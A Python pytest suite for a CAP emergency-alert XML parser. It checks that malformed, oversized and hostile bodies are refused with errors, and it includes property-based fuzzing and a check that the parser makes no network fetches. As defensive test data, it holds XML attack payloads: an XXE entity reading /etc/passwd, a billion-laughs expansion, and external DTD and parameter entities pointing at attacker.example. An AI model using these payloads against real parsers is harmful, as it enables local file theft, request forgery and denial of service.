"""Hostile and broken CAP bodies are refused with InvalidInput/PayloadTooLarge, never a crash."""

from __future__ import annotations

import codecs
import contextlib
import random
import re
import socket
import threading
import time

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from command_center.intake import parse_cap
from command_center.intake.xml_safety import MAX_DEPTH
from infra.errors import InvalidInput, LinkageError, PayloadTooLarge
from tests.intake.conftest import CAP_EXAMPLES, MAX_BYTES, cap_example

CAP12 = "urn:oasis:names:tc:emergency:cap:1.2"
ALERT_HEAD = (
    f'<alert xmlns="{CAP12}"><identifier>X</identifier><sender>s</sender>'
    "<sent>2023-07-31T08:00:00+08:00</sent><status>Actual</status><msgType>Alert</msgType>"
    "<scope>Public</scope>"
)

HOSTILE = {
    "xxe": (
        '<?xml version="1.0"?><!DOCTYPE alert [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        f"{ALERT_HEAD}<note>&xxe;</note></alert>"
    ),
    "billion_laughs": (
        '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        + "".join(
            f'<!ENTITY lol{n} "{("&lol" + str(n - 1) + ";") * 10 if n > 1 else "&lol;" * 10}">'
            for n in range(1, 10)
        )
        + f"]>{ALERT_HEAD}<note>&lol9;</note></alert>"
    ),
    "external_dtd": (
        f'<!DOCTYPE alert SYSTEM "http://attacker.example/cap.dtd">{ALERT_HEAD}</alert>'
    ),
    "parameter_entity": (
        '<!DOCTYPE a [<!ENTITY % remote SYSTEM "http://attacker.example/x">%remote;]>'
        f"{ALERT_HEAD}</alert>"
    ),
    "lowercase_doctype": f'<!doctype alert SYSTEM "file:///etc/passwd">{ALERT_HEAD}</alert>',
    "undeclared_entity": f"{ALERT_HEAD}<note>&xxe;</note></alert>",
    "html": "<!DOCTYPE html><html><head><title>502</title></head><body>Bad gateway</body></html>",
    "html_without_doctype": "<html><body><p>Bad gateway</body></html>",
    "xhtml": '<html xmlns="http://www.w3.org/1999/xhtml"><body><p>hi</p></body></html>',
    "json": '{"identifier": "X"}',
    "truncated": cap_example("thunderstorm.cap")[:700].decode(),
    "utf7": f'<?xml version="1.0" encoding="UTF-7"?>{ALERT_HEAD}</alert>',
    "ebcdic": f'<?xml version="1.0" encoding="IBM037"?>{ALERT_HEAD}</alert>',
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_documents_are_unreadable(name: str, no_network: None) -> None:
    with pytest.raises(InvalidInput):
        parse_cap(HOSTILE[name].encode("utf-8"), max_bytes=MAX_BYTES)


def test_entities_are_refused_before_any_tree_with_a_clear_message() -> None:
    for name in ("xxe", "billion_laughs", "external_dtd", "parameter_entity"):
        with pytest.raises(InvalidInput, match="DTDs and entities are not accepted"):
            parse_cap(HOSTILE[name].encode(), max_bytes=MAX_BYTES)


def test_doctype_hidden_in_utf16_is_found() -> None:
    body = codecs.BOM_UTF16_LE + HOSTILE["xxe"].replace(
        '"1.0"?>', '"1.0" encoding="UTF-16"?>', 1
    ).encode("utf-16-le")
    with pytest.raises(InvalidInput, match="DTDs and entities"):
        parse_cap(body, max_bytes=MAX_BYTES)


def test_utf16_with_bom_is_read() -> None:
    text = cap_example("thunderstorm.cap").decode("utf-8").replace('"UTF-8"', '"UTF-16"', 1)
    result = parse_cap(codecs.BOM_UTF16_LE + text.encode("utf-16-le"), max_bytes=MAX_BYTES)
    assert len(result.items) == 1


def test_utf16_without_bom_is_refused() -> None:
    with pytest.raises(InvalidInput, match=r"NUL bytes|must start"):
        parse_cap(f"{ALERT_HEAD}</alert>".encode("utf-16-le"), max_bytes=MAX_BYTES)


def test_deep_nesting_is_refused() -> None:
    deep = "<x>" * (MAX_DEPTH + 1) + "</x>" * (MAX_DEPTH + 1)
    with pytest.raises(InvalidInput, match="nested deeper"):
        parse_cap(f"{ALERT_HEAD}<note>{deep}</note></alert>".encode(), max_bytes=MAX_BYTES)
    very_deep = "<x>" * 100_000
    with pytest.raises(InvalidInput):
        parse_cap(very_deep.encode(), max_bytes=MAX_BYTES)


def test_oversize_is_refused_before_parsing() -> None:
    body = cap_example("smhi.se.alerts.cap")
    with pytest.raises(PayloadTooLarge):
        parse_cap(body, max_bytes=len(body) - 1)
    assert len(parse_cap(body, max_bytes=len(body)).items) == 17


@pytest.mark.parametrize("body", [b"", b"   \n\t", b"\xef\xbb\xbf"])
def test_empty_bodies(body: bytes) -> None:
    with pytest.raises(InvalidInput):
        parse_cap(body, max_bytes=MAX_BYTES)


def test_non_utf8_garbage() -> None:
    garbage = bytes(random.Random(7).randrange(256) for _ in range(4096))
    with pytest.raises(InvalidInput):
        parse_cap(garbage, max_bytes=MAX_BYTES)
    with pytest.raises(InvalidInput):
        parse_cap(b"<alert>\xff\xfe\xfa</alert>", max_bytes=MAX_BYTES)


def test_latin1_declared_document_is_read() -> None:
    text = cap_example("iceland_met_office.cap").decode("utf-8")
    body = text.replace('encoding="UTF-8"', 'encoding="ISO-8859-1"').encode("latin-1")
    result = parse_cap(body, max_bytes=MAX_BYTES)
    assert result.items[0].envelope.data["event"] == "Veðurviðvörun: Vindur"


EXAMPLES = sorted(path.name for path in CAP_EXAMPLES.iterdir())


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=2048))
def test_random_bytes_only_raise_linkage_errors(body: bytes) -> None:
    with contextlib.suppress(LinkageError):
        parse_cap(body, max_bytes=MAX_BYTES)


@st.composite
def mutated_alerts(draw: st.DrawFn) -> bytes:
    body = bytearray(cap_example(draw(st.sampled_from(EXAMPLES))))
    for _ in range(draw(st.integers(1, 8))):
        kind = draw(st.sampled_from(["flip", "delete", "insert", "splice"]))
        at = draw(st.integers(0, max(len(body) - 1, 0)))
        if kind == "flip" and body:
            body[at] = draw(st.integers(0, 255))
        elif kind == "delete":
            del body[at : at + draw(st.integers(1, 64))]
        elif kind == "insert":
            body[at:at] = draw(
                st.sampled_from(
                    [
                        b"<",
                        b">",
                        b"&amp;",
                        b"&x;",
                        b"<!DOCTYPE a>",
                        b"<info>",
                        b"</area>",
                        b"-99999,99999 1e400",
                        b"\x00",
                        b"\xff",
                        b"NaN",
                        "洪水红色".encode(),
                    ]
                )
            )
        else:
            source = cap_example(draw(st.sampled_from(EXAMPLES)))
            start = draw(st.integers(0, len(source) - 1))
            body[at:at] = source[start : start + draw(st.integers(1, 400))]
    return bytes(body)


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(mutated_alerts())
def test_mutated_real_alerts_only_raise_linkage_errors(body: bytes) -> None:
    try:
        result = parse_cap(body, max_bytes=MAX_BYTES)
    except LinkageError:
        return
    for item in result:
        assert item.envelope.source_id


@st.composite
def mutated_texts(draw: st.DrawFn) -> bytes:
    """Well-formed alerts whose element texts are replaced: exercises mapping, not parsing."""
    text = cap_example(draw(st.sampled_from(["NOAA_MultiplePolygons.xml", "earthquake.cap"])))
    values = [
        "",
        "1e400",
        "-0",
        "99999999999999999999999999",
        "91,181",
        "30,-92 30,-92",
        "2020-02-30T00:00:00+00:00",
        "1,2 3",
        "Extreme",
        "Flood",
        "红色",
    ]
    tags = st.sampled_from(["polygon", "circle", "onset", "event", "altitude", "areaDesc"])
    for tag in draw(st.lists(tags, min_size=1, unique=True)):
        value = draw(st.sampled_from(values)).encode()
        pattern = re.compile(rb"<%s>.*?</%s>" % (tag.encode(), tag.encode()), re.DOTALL)
        text = pattern.sub(b"<%s>%s</%s>" % (tag.encode(), value, tag.encode()), text, count=1)
    return text


@settings(max_examples=200, deadline=None)
@given(mutated_texts())
def test_mutated_values_only_raise_linkage_errors(body: bytes) -> None:
    with contextlib.suppress(LinkageError):
        parse_cap(body, max_bytes=MAX_BYTES)


def test_libxml2_fetches_nothing() -> None:
    """Schema hints, XInclude and DTDs pointing at a live local server: it is never contacted."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.settimeout(0.2)
    url = f"http://127.0.0.1:{server.getsockname()[1]}/cap.xsd"
    contacts: list[bytes] = []
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                connection, _ = server.accept()
            except TimeoutError:
                continue
            contacts.append(connection.recv(1000))
            connection.close()

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    xsi = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
    dsig = "http://www.w3.org/2000/09/xmldsig#"
    xinclude = "http://www.w3.org/2001/XInclude"
    bodies = [
        ALERT_HEAD.replace("<alert ", f'<alert {xsi} xsi:schemaLocation="{CAP12} {url}" ')
        + "</alert>",
        ALERT_HEAD.replace("<alert ", f'<alert {xsi} xsi:noNamespaceSchemaLocation="{url}" ')
        + "</alert>",
        f'{ALERT_HEAD}<Signature xmlns="{dsig}" {xsi} xsi:schemaLocation="{dsig} {url}"/></alert>',
        f'{ALERT_HEAD}<xi:include xmlns:xi="{xinclude}" href="{url}"/></alert>',
        f'<!DOCTYPE alert SYSTEM "{url}">{ALERT_HEAD}</alert>',
    ]
    try:
        for body in bodies:
            with contextlib.suppress(LinkageError):
                parse_cap(body.encode(), max_bytes=MAX_BYTES)
        time.sleep(0.3)
    finally:
        stop.set()
        thread.join()
        server.close()
    assert contacts == []
